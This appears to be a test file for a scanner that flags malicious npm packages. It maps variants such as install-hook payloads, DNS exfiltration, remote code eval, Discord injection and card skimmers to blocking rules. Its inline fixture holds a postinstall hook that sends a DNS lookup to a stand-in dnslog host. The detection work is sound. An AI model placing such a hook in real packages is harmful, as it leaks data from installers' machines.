/**
 * The pkg23npm round (docs/package-analysis.md "Branch pkg23npm"): npm families written here as variants in other
 * syntax (test/support/npm-families-23.ts), each BLOCKED by the rule that states its source → sink flow, and the
 * honest look-alikes that must stay below CAUTION. Nothing is run; archives are built in memory.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import { HONEST_23, MALICIOUS_23 } from '../support/npm-families-23.js';
import { npmBlocked, npmHonest } from '../support/package-asserts.js';

/** The rule each variant must be BLOCKED by (its flow's statement). */
const RULE: Record<string, string> = {
  hookDotDetached: 'install_spawns_payload',
  hookDotSlashMainLib: 'install_spawns_payload',
  hookDotExportsField: 'install_spawns_payload',
  hookNodeIndexNoMain: 'install_spawns_payload',
  dnsLookupHost: 'dns_recon',
  dnsResolveEnvPromises: 'dns_recon',
  dnsResolverTxt: 'dns_recon',
  dnsNslookupExec: 'dns_recon',
  dnsNslookupHookOnly: 'install_dns_recon',
  dnsEsm: 'dns_recon',
  dnsHexChunks: 'dns_secret_exfil',
  unserializeFetched: 'deserialize_fetched',
  unserializeAxios: 'deserialize_fetched',
  evalFetchThen: 'remote_code_eval',
  fnFetched: 'remote_code_eval',
  vmFetched: 'remote_code_eval',
  vmScriptFetched: 'remote_code_eval',
  discordInject: 'discord_client_inject',
  discordInjectSplit: 'discord_client_inject',
  exodusAsar: 'install_persistence',
  trackerIssue: 'fingerprint_send',
  pastebin: 'exfil_suspicious_destination',
  webhookSite: 'exfil_suspicious_destination',
  pipedream: 'exfil_suspicious_destination',
  discordWebhookFp: 'exfil_suspicious_destination',
  b1: 'dns_recon',
  b2: 'dns_recon',
  b3: 'dns_recon',
  b4: 'dns_recon',
  b5: 'dns_recon',
  b6: 'dns_recon',
  b7: 'dns_recon',
  b8: 'dns_recon',
  d1: 'discord_client_inject',
  d2: 'discord_client_inject',
  d3: 'discord_client_inject',
  e1: 'remote_code_eval',
  e2: 'remote_code_eval',
  skimmerImage: 'card_data_beacon',
  skimmerBeaconSelectors: 'card_data_beacon',
  dnsAlias1: 'dns_recon',
  dnsAlias2: 'dns_recon',
  dnsAlias3: 'dns_recon',
  dnsAlias4: 'dns_recon',
  dnsAlias5: 'dns_recon',
  dnsAlias6: 'dns_recon',
  dnsAlias7: 'dns_recon',
  dnsAlias8: 'dns_recon',
  dnsAlias9: 'dns_recon',
  evalVia1: 'remote_code_eval',
  evalVia2: 'remote_code_eval',
  evalVia3: 'remote_code_eval',
  evalVia4: 'remote_code_eval',
  evalVia5: 'remote_code_eval',
  evalVia6: 'deserialize_fetched',
  evalVia7: 'remote_code_eval',
  evalVia8: 'remote_code_eval',
  spawnHook1: 'install_spawns_payload',
  spawnHook2: 'install_spawns_payload',
  spawnHook3: 'install_spawns_payload',
  spawnHook4: 'install_spawns_payload',
  appWrite1: 'discord_client_inject',
  appWrite2: 'install_persistence',
  trackerSend1: 'exfil_suspicious_destination',
  trackerSend2: 'fingerprint_send',
  trackerSend3: 'exfil_suspicious_destination',
  trackerSend4: 'exfil_suspicious_destination',
  trackerSend5: 'fingerprint_send',
  trackerSend6: 'fingerprint_send',
};

test('every variant has its rule, and every rule names a variant', () => {
  assert.equal(Object.keys(RULE).sort(), Object.keys(MALICIOUS_23).sort());
});

for (const [id, files] of Object.entries(MALICIOUS_23))
  test(`npm variant ${id} is BLOCKED by ${RULE[id]}`, async () => {
    await npmBlocked(files, RULE[id]);
  });

for (const [id, files] of Object.entries(HONEST_23))
  test(`honest look-alike ${id} stays below CAUTION`, async () => {
    await npmHonest(files);
  });

test('a split literal is read joined; a query name built in a helper carries what its callers pass', async () => {
  // (The same file without the fingerprint at the call site: the helper's parameter is the caller's choice.)
  const r = await rateNpmFiles({
    'package.json': JSON.stringify({ name: 'pkgx', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node index.js' } }),
    'index.js': `const dns = require('dns');\nconst send = (n) => new Promise((ok) => dns.lookup(n + '.r.dnslog.example', ok));\nsend(process.argv[2] || 'www');\n`,
  });
  assert.ok(!r.rules.some((x) => x.startsWith('dns_recon:')), r.rules.join(', '));
});

test.run();
